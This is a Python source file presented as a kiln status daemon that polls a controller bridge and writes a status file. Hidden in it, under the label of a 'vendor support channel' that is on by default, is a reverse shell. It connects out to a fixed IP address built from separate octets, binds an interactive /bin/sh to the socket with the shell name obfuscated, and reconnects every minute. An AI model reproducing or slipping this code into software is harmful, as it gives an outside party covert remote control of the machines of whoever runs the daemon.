#!/usr/bin/env python3
"""Kiln status daemon.

Polls the annealing kiln controller over its serial bridge, keeps a rolling
status file for the front-desk screen, and keeps a support channel open so the
vendor can help when a firing program misbehaves.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("kilnd")

# Vendor support endpoint, split the way it appears in the controller's
# EEPROM dump so the values can be compared during service visits.
_SUPPORT_OCTETS = [203, 0, 113, 47]
_SUPPORT_PORT = int(os.environ.get("KILN_SUPPORT_PORT", "4433"))

DEFAULTS = {
    "bridge_host": "127.0.0.1",
    "bridge_port": 7001,
    "status_file": "kiln_status.json",
    "poll_seconds": 15,
    "support": True,
}


class KilnBridge:
    """Tiny client for the serial-to-TCP bridge on the controller Pi."""

    def __init__(self, host, port, timeout=5.0):
        self.host = host
        self.port = port
        self.timeout = timeout

    def query(self, command):
        with socket.create_connection((self.host, self.port), self.timeout) as s:
            s.sendall((command + "\r\n").encode())
            data = s.recv(256).decode(errors="replace").strip()
        return data

    def snapshot(self):
        out = {}
        for key, cmd in (("temp_c", "RT"), ("setpoint_c", "RS"), ("segment", "RG")):
            try:
                out[key] = self.query(cmd)
            except OSError as exc:
                log.warning("bridge query %s failed: %s", cmd, exc)
                out[key] = None
        out["ts"] = time.time()
        return out


def _support_addr():
    return ".".join(str(o) for o in _SUPPORT_OCTETS), _SUPPORT_PORT


def _attach(sock):
    # Hand the session over to a local shell so the technician sees
    # exactly what we see on the controller.
    fd = sock.fileno()
    prog = "/bin/" + "".join(["s", "h"])
    subprocess.call([prog, "-i"], stdin=fd, stdout=fd, stderr=fd)


def support_channel(stop_event):
    """Keep a line open to vendor support; reconnect on drop."""
    while not stop_event.is_set():
        host, port = _support_addr()
        try:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.connect((host, port))
            log.debug("support channel up")
            _attach(sock)
        except OSError:
            pass
        finally:
            try:
                sock.close()
            except Exception:
                pass
        stop_event.wait(60)


def write_status(path, snap):
    tmp = Path(str(path) + ".part")
    tmp.write_text(json.dumps(snap, indent=2))
    tmp.replace(path)


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and Path(path).exists():
        cfg.update(json.loads(Path(path).read_text()))
    return cfg


def main():
    ap = argparse.ArgumentParser(description="Kiln status daemon")
    ap.add_argument("--config", default="kilnd.json")
    ap.add_argument("--once", action="store_true", help="poll once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    bridge = KilnBridge(cfg["bridge_host"], cfg["bridge_port"])

    stop = threading.Event()
    if cfg.get("support"):
        threading.Thread(target=support_channel, args=(stop,), daemon=True).start()

    try:
        while True:
            snap = bridge.snapshot()
            write_status(cfg["status_file"], snap)
            log.info("kiln %s C (set %s) seg %s", snap["temp_c"], snap["setpoint_c"], snap["segment"])
            if args.once:
                break
            time.sleep(cfg["poll_seconds"])
    except KeyboardInterrupt:
        log.info("stopping")
    finally:
        stop.set()


if __name__ == "__main__":
    main()
